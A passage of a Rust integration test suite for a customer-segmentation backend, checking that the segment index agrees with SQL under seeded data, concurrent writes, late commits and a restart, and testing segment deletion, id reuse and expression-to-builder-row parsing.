            let oid = json_ok(rr, StatusCode::CREATED).await["order"]["id"]
                .as_i64()
                .unwrap();
            if r.next(5) == 0 {
                let amount = if r.next(2) == 0 { 500 } else { 99_999_999 };
                let _ = t
                    .post(
                        &format!("/api/v1/orders/{oid}/refunds"),
                        &t.admin,
                        json!({"refund_id": format!("R{i}-{o}"), "amount_fen": amount}),
                    )
                    .await;
            }
        }
        let n = r.next(3);
        let events: Vec<Value> = (0..n).map(|k| json!({"id": format!("g{i}-{k}"), "kind": if r.next(2) == 0 { "join_group" } else { "leave_group" },
            "customer_id": id, "occurred_at": now - r.next(100) as i64 * day})).collect();
        if !events.is_empty() {
            assert_eq!(
                t.post("/api/v1/events", &t.admin, json!({"events": events}))
                    .await
                    .status(),
                StatusCode::OK
            );
        }
    }
    seed_first_touches(t, &ids, now).await;
    // Two merges, so dead customers are in the table too.
    for (a, b) in [("P1", "P2"), ("P3", "P4")] {
        let _ = t.post("/api/v1/customers", &t.admin, json!({"identities": [{"kind": "app_user", "value": a}, {"kind": "phone", "value": format!("1350000{:04}", a.len() + b.len())}]})).await;
        let _ = t.post("/api/v1/customers", &t.admin, json!({"identities": [{"kind": "app_user", "value": b}, {"kind": "phone", "value": format!("1350000{:04}", a.len() + b.len())}]})).await;
    }
}

/// First touches for about two in three customers, written as the add callback writes them
/// (the index is rebuilt before every comparison): a channel or none (an unknown state), a
/// guide or none, a time within the last 60 days.
async fn seed_first_touches(t: &TestApp, ids: &[i64], now: i64) {
    let store = t.store("PROP-ACQ").await;
    let staff = [
        t.staff("pa.one", "guide", Some(store)).await,
        t.staff("pa.two", "guide", Some(store)).await,
    ];
    let mut stmts = Vec::new();
    for (i, (name, kind)) in CHANNELS.iter().enumerate() {
        stmts.push(format!(
            "INSERT INTO channels (id, name, kind, spec, created_at, updated_at) \
             VALUES ({}, '{}', '{kind}', '{{}}', {now}, {now})",
            900 + i,
            name.replace('\'', "''")
        ));
    }
    let mut r = Lcg(7);
    for id in ids {
        if r.next(3) == 0 {
            continue;
        }
        let channel = match r.next(4) {
            3 => "NULL".to_owned(),
            c => (900 + c).to_string(),
        };
        let guide = match r.next(3) {
            2 => "NULL".to_owned(),
            g => staff[g as usize].to_string(),
        };
        let at = now - r.next(60 * 86_400_000) as i64;
        stmts.push(format!(
            "INSERT INTO customer_acquisition (customer_id, channel_id, state, staff_id, acquired_at) \
             VALUES ({id}, {channel}, 'seed', {guide}, {at})"
        ));
    }
    // Membership tiers for about half of them (the `tier` and `tier_since` attributes).
    for (i, (key, name)) in [("silver", "银卡"), ("gold", "金卡")].iter().enumerate() {
        stmts.push(format!(
            "INSERT INTO tiers (id, tier_key, name, tier_rank, threshold, created_at, updated_at) \
             VALUES ({}, '{key}', '{name}', {}, {}, {now}, {now})",
            900 + i,
            i + 1,
            i * 1000
        ));
    }
    let mut r = Lcg(11);
    for id in ids {
        if r.next(2) == 0 {
            continue;
        }
        let tier = 900 + r.next(2);
        let since = now - r.next(60 * 86_400_000) as i64;
        stmts.push(format!(
            "INSERT INTO customer_tiers (customer_id, tier_id, tier_since, held_until, updated_at) \
             VALUES ({id}, {tier}, {since}, {}, {now})",
            since + 365 * 86_400_000
        ));
    }
    for sql in stmts {
        crate::audit::exec(t, sql).await;
    }
}

/// The members of `src` at `now` by the index as it stands, by the SQL translation, and on
/// PostgreSQL by the benchmark's denormalised facts table (`None` on SQLite, or when the
/// expression names a custom attribute, which the facts table leaves out).
pub(crate) async fn members_three_ways(
    app: &yutang_app::App,
    src: &str,
    now: Millis,
) -> (Vec<i64>, Vec<i64>, Option<Vec<i64>>) {
    let expr = app
        .segments
        .compile(src)
        .expect("generated expressions compile");
    let index: Vec<i64> = app
        .segments
        .evaluate(&expr, now.0, None)
        .unwrap()
        .iter()
        .map(i64::from)
        .collect();
    let custom = app.segments.custom_attrs().unwrap();
    let cond = yutang_store::segments::to_sql(&expr, &custom, app.db.engine(), now).unwrap();
    let sql = yutang_store::segments::sql_members(&app.db, &cond)
        .await
        .unwrap();
    let facts = match &app.db {
        yutang_store::Db::Postgres(pool) => {
            match yutang_store::segments::to_sql_from(
                &expr,
                &custom,
                app.db.engine(),
                now,
                yutang_store::segments::SqlSource::FactsTable,
            ) {
                Ok(cond) => {
                    for stmt in yutang_store::segments::facts_table_sql("t_facts", now.0) {
                        sqlx::query(sqlx::AssertSqlSafe(stmt))
                            .execute(pool)
                            .await
                            .unwrap();
                    }
                    let ids: Vec<i64> = sqlx::query_scalar(sqlx::AssertSqlSafe(format!(
                        "SELECT id FROM t_facts c WHERE {cond} ORDER BY id"
                    )))
                    .fetch_all(pool)
                    .await
                    .unwrap();
                    Some(ids)
                }
                Err(yutang_store::StoreError::Refused {
                    code: "unknown_attribute",
                    ..
                }) => None,
                Err(e) => panic!("facts table translation: {e}"),
            }
        }
        yutang_store::Db::Sqlite(_) => None,
    };
    (index, sql, facts)
}

fn run(e: Engine) {
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap();
    let t = rt.block_on(async {
        let t = spawn_app(e).await;
        seed(&t).await;
        t
    });
    let app = t.app.clone();
    let mut runner = TestRunner::new(Config {
        cases: 300,
        failure_persistence: None,
        ..Config::default()
    });
    let result = runner.run(&expr(), |src| {
        let (index, sql, facts) = rt.block_on(async {
            let now = Millis::now();
            app.segments.catch_up(&app.db, now.0, 0).await.unwrap();
            // The index is rebuilt at `now` so its time windows (orders_90d) match the SQL's.
            app.segments.rebuild(&app.db, now.0).await.unwrap();
            members_three_ways(&app, &src, now).await
        });
        prop_assert_eq!(&index, &sql, "expression: {}", src);
        if let Some(facts) = facts {
            prop_assert_eq!(&index, &facts, "facts table, expression: {}", src);
        }
        Ok(())
    });
    rt.block_on(async move { drop(t) });
    if let Err(e) = result {
        panic!("{e}");
    }
}

// --- the index follows the event log in commit order ---

/// The live customers an expression picks, by the SQL translation (the oracle).
async fn sql_count(t: &TestApp, src: &str) -> u64 {
    let expr = t.app.segments.compile(src).unwrap();
    let custom = t.app.segments.custom_attrs().unwrap();
    let cond =
        yutang_store::segments::to_sql(&expr, &custom, t.app.db.engine(), Millis::now()).unwrap();
    yutang_store::segments::sql_members(&t.app.db, &cond)
        .await
        .unwrap()
        .len() as u64
}

/// A transaction that took its event id first but commits after a later one was read by the
/// index must still reach the index (PostgreSQL hands out ids before commit). The slow writer
/// is a raw transaction held open across another customer's tagging and a count.
async fn index_sees_a_transaction_that_commits_late(e: Engine) {
    let t = spawn_app(e).await;
    let g = group(&t, "迟到", true).await;
    let tg = tag(&t, g, "标签").await;
    let a = customer_with_phone(&t, "13900000001", "甲").await;
    let b = customer_with_phone(&t, "13900000002", "乙").await;
    let expr = r#"tag("迟到/标签")"#;
    assert_eq!(count(&t, &t.admin, expr).await, 0);
    let now = Millis::now().0;
    const TAG: &str = "INSERT INTO customer_tags (customer_id, tag_id, source, created_at) VALUES ($1, $2, 'manual', $3)";
    const EVENT: &str = "INSERT INTO events (customer_id, kind, occurred_at, received_at, detail) \
                         VALUES ($1, 'tag_added', $2, $2, '{}')";
    match &t.app.db {
        yutang_store::Db::Postgres(pool) => {
            // Customer a's tag and event: its id is taken now, its commit comes last.
            let mut slow = pool.begin().await.unwrap();
            sqlx::query(TAG)
                .bind(a)
                .bind(tg)
                .bind(now)
                .execute(&mut *slow)
                .await
                .unwrap();
            sqlx::query(EVENT)
                .bind(a)
                .bind(now)
                .execute(&mut *slow)
                .await
                .unwrap();
            // b is tagged through the API (a later event id, committed) and counted: the
            // index has now read past a's id.
            assert_eq!(
                change(&t, &t.admin, b, &[tg], &[]).await.status(),
                StatusCode::OK
            );
            assert_eq!(count(&t, &t.admin, expr).await, 1);
            slow.commit().await.unwrap();
        }
        yutang_store::Db::Sqlite(pool) => {
            // One writer: a transaction cannot stay open across another's write, and ids
            // commit in order. The same writes, in sequence, must give the same answer.
            let mut tx = pool.begin().await.unwrap();
            sqlx::query(TAG)
                .bind(a)
                .bind(tg)
                .bind(now)
                .execute(&mut *tx)
                .await
                .unwrap();
            sqlx::query(EVENT)
                .bind(a)
                .bind(now)
                .execute(&mut *tx)
                .await
                .unwrap();
            tx.commit().await.unwrap();
            assert_eq!(
                change(&t, &t.admin, b, &[tg], &[]).await.status(),
                StatusCode::OK
            );
        }
    }
    // Both tags are committed: a count (which catches up first) sees both, at once.
    assert_eq!(count(&t, &t.admin, expr).await, 2);
    assert_eq!(sql_count(&t, expr).await, 2);
    // A second node on the same database reads the write made through the first.
    let node_b = yutang_app::App::open((*t.app.settings).clone())
        .await
        .unwrap();
    let actor = yutang_app::Actor::system();
    assert_eq!(
        node_b
            .segments()
            .segment_count(&actor, expr)
            .await
            .unwrap()
            .count,
        2
    );
    let c = customer_with_phone(&t, "13900000003", "丙").await;
    assert_eq!(
        change(&t, &t.admin, c, &[tg], &[]).await.status(),
        StatusCode::OK
    );
    assert_eq!(
        node_b
            .segments()
            .segment_count(&actor, expr)
            .await
            .unwrap()
            .count,
        3
    );
    assert_eq!(
        change(&t, &t.admin, a, &[], &[tg]).await.status(),
        StatusCode::OK
    );
    assert_eq!(
        node_b
            .segments()
            .segment_count(&actor, expr)
            .await
            .unwrap()
            .count,
        2
    );
}

/// Eight concurrent writers tag, untag and post group join/leave events; every writer's own
/// count includes its write, and at the end the index agrees with SQL.
async fn concurrent_writers_keep_the_index_equal_to_sql(e: Engine) {
    let t = std::sync::Arc::new(spawn_app(e).await);
    let g = group(&t, "并发", true).await;
    let tg = tag(&t, g, "标签").await;
    let mut customers = Vec::new();
    for i in 0..24 {
        customers.push(customer_with_phone(&t, &format!("137000{i:05}"), "客").await);
    }
    let customers = std::sync::Arc::new(customers);
    let expr = r#"tag("并发/标签")"#;
    let tasks: Vec<_> = (0..8u64)
        .map(|w| {
            let (t, customers) = (t.clone(), customers.clone());
            tokio::spawn(async move {
                let mut seed = w * 7919 + 13;
                let mut next = |n: u64| {
                    seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
                    (seed >> 33) % n
                };
                for k in 0..25 {
                    // Each writer owns its customers (c ≡ w mod 8), so it knows their state.
                    let own: Vec<i64> = customers
                        .iter()
                        .enumerate()
                        .filter(|(i, _)| *i as u64 % 8 == w)
                        .map(|(_, c)| *c)
                        .collect();
                    let c = own[next(own.len() as u64) as usize];
                    if next(2) == 0 {
                        let r = change(&t, &t.admin, c, &[tg], &[]).await;
                        assert_eq!(r.status(), StatusCode::OK);
                        // Read your own write: this customer is in the tag now.
                        let m = t.app.segments.tag_members(tg).unwrap();
                        assert!(m.contains(c as u32), "writer {w} step {k}: own tag missing");
                    } else {
                        let r = change(&t, &t.admin, c, &[], &[tg]).await;
                        assert_eq!(r.status(), StatusCode::OK);
                        let m = t.app.segments.tag_members(tg).unwrap();
                        assert!(!m.contains(c as u32), "writer {w} step {k}: own untag kept");
                    }
                    let kind = if next(2) == 0 { "join_group" } else { "leave_group" };
                    let r = t
                        .post(
                            "/api/v1/events",
                            &t.admin,
                            json!({"events": [{"id": format!("w{w}-{k}"), "kind": kind, "customer_id": c}]}),
                        )
                        .await;
                    assert_eq!(r.status(), StatusCode::OK);
                }
            })
        })
        .collect();
    for task in tasks {
        task.await.unwrap();
    }
    for src in [expr, "in_group", &format!("{expr} and in_group")] {
        let want = sql_count(&t, src).await;
        assert_eq!(count(&t, &t.admin, src).await, want, "{src}");
    }
}

// --- a segment in use, and ids never handed out twice ---

/// A segment that a coupon template uses as its audience cannot be deleted (409 naming the
/// template); a deleted segment's, tag's or tag group's id is never given to a new one.
async fn segments_in_use_stay_and_ids_are_not_reused(e: Engine) {
    let t = spawn_app(e).await;
    let seg = |name: &'static str| {
        let t = &t;
        async move {
            let r = t
                .post(
                    "/api/v1/segments",
                    &t.admin,
                    json!({"name": name, "expression": "order_count >= 0"}),
                )
                .await;
            json_ok(r, StatusCode::CREATED).await["id"]
                .as_i64()
                .unwrap()
        }
    };
    let used = seg("会员日人群").await;
    let now = Millis::now().0;
    let r = t
        .post(
            "/api/v1/coupon-templates",
            &t.admin,
            json!({
                "name": "会员日 满50减10",
                "steps": [{"kind": "amount_off", "off_fen": 1000, "threshold_fen": 5000}],
                "validity": {"kind": "days_from_claim", "days": 7},
                "claim_window": {"starts_at": now - 86_400_000, "ends_at": now + 86_400_000},
                "stock": 10,
                "per_customer": 1,
                "audience": {"kind": "segment", "segment_id": used},
                "return_on_refund": true,
                "remind_hours_before": 24
            }),
        )
        .await;
    let tpl = json_ok(r, StatusCode::CREATED).await["id"]
        .as_i64()
        .unwrap();
    let r = t
        .send_json(
            Method::DELETE,
            &format!("/api/v1/segments/{used}"),
            &t.admin,
            json!({}),
        )
        .await;
    assert_eq!(r.status(), StatusCode::CONFLICT);
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["error"]["code"], "segment_in_use", "{v}");
    let msg = v["error"]["message"].as_str().unwrap();
    assert!(msg.contains(&format!("coupon template {tpl}")), "{msg}");
    assert_eq!(
        t.get(&format!("/api/v1/segments/{used}"), &t.admin)
            .await
            .status(),
        StatusCode::OK
    );
    // The newest segment deleted, the next one gets a new id.
    let gone = seg("临时人群").await;
    let r = t
        .send_json(
            Method::DELETE,
            &format!("/api/v1/segments/{gone}"),
            &t.admin,
            json!({}),
        )
        .await;
    assert!(r.status().is_success(), "{:?}", r.text().await);
    let next = seg("新人群").await;
    assert_ne!(next, gone, "a deleted segment's id was handed out again");
    // The same for tag groups and tags.
    let g = group(&t, "临时组", true).await;
    let tg = tag(&t, g, "临时标签").await;
    for path in [
        format!("/api/v1/tags/{tg}"),
        format!("/api/v1/tag-groups/{g}"),
    ] {
        let r = t
            .send_json(Method::DELETE, &path, &t.admin, json!({}))
            .await;
        assert!(r.status().is_success(), "{path}: {:?}", r.text().await);
    }
    let g2 = group(&t, "新组", true).await;
    let tg2 = tag(&t, g2, "新标签").await;
    assert_ne!(g2, g, "a deleted tag group's id was handed out again");
    assert_ne!(tg2, tg, "a deleted tag's id was handed out again");
}

/// Issue #18: in a freshly seeded demo the behaviour rule 领券未使用 held nobody while 120
/// customers had unused coupons, until an operator pressed 立即运行 (the seed wrote them
/// before any node ran rules, and rules looked only at customers changed since start, or at
/// everyone after an hour). A node now runs every rule once at start.
async fn rule_tags_are_current_after_a_start(e: Engine) {
    let dir = tempfile::tempdir().unwrap();
    let url = crate::helpers::fresh_database_url(e, &dir).await;
    {
        // Seeded by a process that runs no background work (like `yutang demo` before it
        // serves).
        let seeder = yutang_app::App::open(yutang_app::Settings {
            database_url: url.clone(),
            ..yutang_app::Settings::default()
        })
        .await
        .unwrap();
        seeder.demo().seed_demo(200, &|_, _, _| {}).await.unwrap();
        seeder.db.close().await;
    }
    let t = crate::helpers::spawn_with(e, |s| s.database_url = url.clone()).await;
    let unused = crate::promotions::scalar(
        &t,
        "SELECT COUNT(DISTINCT customer_id) FROM coupons WHERE state = 'claimed'",
    )
    .await as u64;
    assert!(unused > 0);
    let expr = r#"tag("领券未用/领券未使用")"#;
    for _ in 0..300 {
        if count(&t, &t.admin, expr).await == unused {
            return;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!(
        "{expr} holds {} of the {unused} customers with unused coupons",
        count(&t, &t.admin, expr).await
    );
}

/// `POST /api/v1/segments/rows` and the console's `rows.json`: the builder's rows from the
/// real parser, why an expression does not fit, strict bodies, control characters refused.
async fn expressions_read_back_into_builder_rows(e: Engine) {
    let t = spawn_app(e).await;
    let stage = group(&t, "宝宝月龄", false).await;
    let young = tag(&t, stage, "0-6月").await;
    let tr = &t;
    let rows = move |src: &str| {
        let src = src.to_owned();
        async move {
            let r = tr
                .post(
                    "/api/v1/segments/rows",
                    &tr.admin,
                    json!({"expression": src}),
                )
                .await;
            json_ok(r, StatusCode::OK).await
        }
    };
    let v = rows(&format!(
        r#"tag({young}) and city = "上海" and not (total_spent_fen >= ¥199.90) and last_order within 30d"#
    ))
    .await;
    assert_eq!(v["fits"], true, "{v}");
    assert_eq!(v["join"], "and");
    assert_eq!(v["misfit"], Value::Null);
    assert_eq!(
        v["rows"],
        json!([
            {"field": "tag:宝宝月龄/0-6月", "op": "has", "value": "", "not": false},
            {"field": "city", "op": "=", "value": "上海", "not": false},
            {"field": "total_spent_fen", "op": ">=", "value": "199.90", "not": true},
            {"field": "last_order", "op": "within", "value": "30", "not": false},
        ])
    );
    let v = rows(r#"(in_group) or (not in_group)"#).await;
    assert_eq!(v["join"], "or", "{v}");
    assert_eq!(v["rows"][1]["op"], "is_false");
    // Empty text is no rows.
    let v = rows("  ").await;
    assert_eq!(
        (v["fits"].clone(), v["rows"].clone()),
        (json!(true), json!([]))
    );
    // What the rows cannot show: said, with no rows.
    for (src, why) in [
        (
            r#"city = "上海" and (in_group or orders_90d >= 2)"#,
            "nested",
        ),
        (r#"city in ("上海", "北京")"#, "unsupported"),
    ] {
        let v = rows(src).await;
        assert_eq!(v["fits"], false, "{src}");
        assert_eq!(v["misfit"], why, "{src}");
        assert_eq!(v["rows"], json!([]), "{src}");
    }
    // An invalid expression is the count's 422, with its position.
    let r = t
        .post(
            "/api/v1/segments/rows",
            &t.admin,
            json!({"expression": "city >= 3"}),
        )
        .await;
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["error"]["field"], "expression", "{v}");
    assert_eq!(v["error"]["position"]["column"], 6, "{v}");
    // Strict bodies: unknown fields and control characters are refused.
    let r = t
        .post(
            "/api/v1/segments/rows",
            &t.admin,
            json!({"expression": "in_group", "join": "and"}),
        )
        .await;
    assert_eq!(error_of(r).await.1, "unknown_field");
    let r = t
        .post(
            "/api/v1/segments/rows",
            &t.admin,
            json!({"expression": "in_group\u{0}"}),
        )
        .await;
    let (status, code, _) = error_of(r).await;
    assert_eq!(
        (status, code.as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, "invalid_characters")
    );

    // The console's endpoint answers the same, and says `invalid` instead of a 422.
    t.staff("rows_op", "operator", None).await;
    let cookie = crate::console::console_login(&t, "rows_op").await;
    let get = move |q: &str| {
        let url = format!("/console/segments/rows.json?expression={}", urlencoding(q));
        let cookie = cookie.clone();
        async move {
            let r = tr
                .client
                .get(tr.url(&url))
                .header("cookie", cookie)
                .send()
                .await
                .unwrap();
            let status = r.status();
            let body = r.text().await.unwrap();
            (
                status,
                serde_json::from_str(&body).unwrap_or(Value::String(body)),
            )
        }
    };
    let (s, v) = get(r#"city = "上海" and in_group"#).await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(v["fits"], true, "{v}");
    assert_eq!(
        v["rows"][1],
        json!({"field": "in_group", "op": "is_true", "value": "", "not": false})
    );
    let (_, v) = get(r#"in_group or (city = "上海" and orders_90d >= 2)"#).await;
    assert_eq!(v["misfit"], "nested", "{v}");
    let (_, v) = get("city >= ").await;
    assert_eq!(
        (v["fits"].clone(), v["misfit"].clone()),
        (json!(false), json!("invalid"))
    );
    // Control characters: refused by the console's query check before the handler.
    let (s, v) = get("in_group\u{7}").await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{v}");
    assert!(v.as_str().unwrap().contains("control characters"), "{v}");
}

/// Percent-encode a query value (every byte outside the unreserved set).
fn urlencoding(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}
